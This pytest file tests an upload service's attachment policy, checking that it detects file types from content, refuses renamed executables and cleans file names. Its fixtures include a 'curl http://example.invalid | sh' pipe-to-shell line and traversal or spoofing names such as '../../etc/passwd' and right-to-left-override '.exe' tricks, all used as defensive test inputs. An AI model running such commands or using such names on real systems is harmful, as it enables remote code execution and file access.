"""What is accepted (``attachments/policy.py``): the type comes from the bytes, never the name
or the declared type, against an allow-list; file names are cleaned before anyone sees them."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import pytest
from django.test import Client
from PIL import Image

from liaison.models import Attachment, AuditEvent, Room, User
from liaison.services import attachments as service
from tests import attachments_support as support
from tests.attachments_support import docx_bytes, download, send, stored_files, upload, xlsx_bytes

# The attachment fixtures (``store`` keeps each test's files in a store of its own).
store = support.store
olivia = support.olivia


# --- types ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00" + os.urandom(4000), "Windows program"),
        (b"\x7fELF\x02\x01\x01\x00" + os.urandom(4000), "Linux program"),
        (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "script"),
        (b"\xcf\xfa\xed\xfe" + os.urandom(4000), "macOS program"),
    ],
    ids=["exe", "elf", "shebang", "mach-o"],
)
def test_a_renamed_executable_is_refused(
    olivia: Client, room: Room, store: Path, content: bytes, what: str
) -> None:
    response = upload(olivia, room, "invoice.pdf", content, "application/pdf")

    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == "invalid"
    assert what in error["detail"]
    assert "whatever its name says" in error["detail"]
    assert stored_files(store) == []
    assert not Attachment.objects.exists()
    assert AuditEvent.objects.get(action="attachment.refused").details["declared_type"] == (
        "application/pdf"
    )


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"\x1f\x8b\x08\x00" + os.urandom(2000), "data.csv"),  # gzip
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(2000), "old.docx"),  # OLE (xls, msi)
        ("container,weight\n".encode("utf-16"), "utf16.csv"),
        (b"plain text\n" * 10 + b"\xff\xfe bad bytes", "notes.txt"),
    ],
    ids=["gzip", "ole", "utf-16-text", "invalid-utf-8"],
)
def test_anything_off_the_allow_list_is_refused(
    olivia: Client, room: Room, store: Path, content: bytes, name: str
) -> None:
    response = upload(olivia, room, name, content, "text/csv")

    assert response.status_code == 400
    assert "Allowed:" in response.json()["error"]["detail"]
    assert stored_files(store) == []


def test_text_that_turns_binary_after_the_sniffed_head_is_refused(
    olivia: Client, room: Room, store: Path
) -> None:
    content = b"hs_code,description\n" * 10_000 + b"\x00\x01\x02 binary tail"
    assert len(content) > service.SNIFF_BYTES

    response = upload(olivia, room, "declarations.csv", content, "text/csv")

    assert response.status_code == 400
    assert "UTF-8" in response.json()["error"]["detail"]
    assert stored_files(store) == []


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("declarations.csv", b"container,hs\nMSKU1234565,391510\n", service.CSV),
        ("notes", "Nansha inspection: 通关 ok\n".encode(), service.TXT),
        ("sheet.bin", None, service.XLSX),
        ("report.bin", None, service.DOCX),
        ("bundle.docx", None, service.ZIP),
        ("scan.txt", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", service.PDF),
        ("photo.pdf", None, service.JPEG),
    ],
    ids=["csv", "txt", "xlsx", "docx", "zip", "pdf", "jpeg"],
)
def test_the_type_comes_from_the_bytes_not_the_name(
    olivia: Client, room: Room, name: str, content: bytes | None, expected: str
) -> None:
    if expected == service.XLSX:
        content = xlsx_bytes()
    elif expected == service.DOCX:
        content = docx_bytes()
    elif expected == service.ZIP:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("photos/bale-01.txt", "not an office document")
        content = out.getvalue()
    elif expected == service.JPEG:
        out = io.BytesIO()
        Image.new("RGB", (50, 40), "orange").save(out, "JPEG")
        content = out.getvalue()
    assert content is not None

    response = upload(olivia, room, name, content, "application/x-anything")

    assert response.status_code == 201, response.content
    assert response.json()["attachment"]["content_type"] == expected


# --- names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\cmd.txt", "cmd.txt"),
        ("/etc/shadow", "shadow"),
        ("bale\x00.txt", "bale.txt"),
        ("invoice\u202etxt.exe", "invoicetxt.exe"),
        ("zero\u200bwidth\u2066.txt", "zerowidth.txt"),
        ("..", "file"),
        ("   ", "file"),
        (".hidden", "hidden"),
        ('a<b>c:"d"|e?*.txt', "a_b_c__d__e__.txt"),
        ("x" * 500 + ".xlsx", "x" * 195 + ".xlsx"),
        ("y" * 300, "y" * 200),
    ],
)
def test_file_names_are_cleaned_for_display(raw: str, shown: str) -> None:
    assert service.clean_filename(raw) == shown


@pytest.mark.parametrize(
    "raw",
    ["../../etc/passwd", "bale\x00.txt", "r" * 600 + ".txt", "invoice\u202etxt.exe"],
    ids=["traversal", "nul", "very-long", "rtl-override"],
)
def test_hostile_file_names_are_harmless(
    olivia: Client, uk_officer: User, room: Room, store: Path, raw: str, tmp_path: Path
) -> None:
    response = upload(olivia, room, raw, b"harmless text\n", "text/plain")

    assert response.status_code == 201, response.content
    name = response.json()["attachment"]["name"]
    assert name == service.clean_filename(raw.replace("\x00", ""))
    assert "/" not in name
    assert "\x00" not in name
    assert "\u202e" not in name
    assert len(name) <= 200
    (blob,) = stored_files(store)
    assert blob.is_relative_to(store)
    assert blob.name == Attachment.objects.get().storage_name.split("/")[1]
    assert not (tmp_path / "etc").exists()

    send(uk_officer, room, [response.json()["attachment"]["id"]])
    disposition = download(olivia, response.json()["attachment"]["id"])["Content-Disposition"]
    assert "/" not in disposition.split("filename*=")[0]
    assert "\u202e" not in disposition
    assert "%E2%80%AE" not in disposition
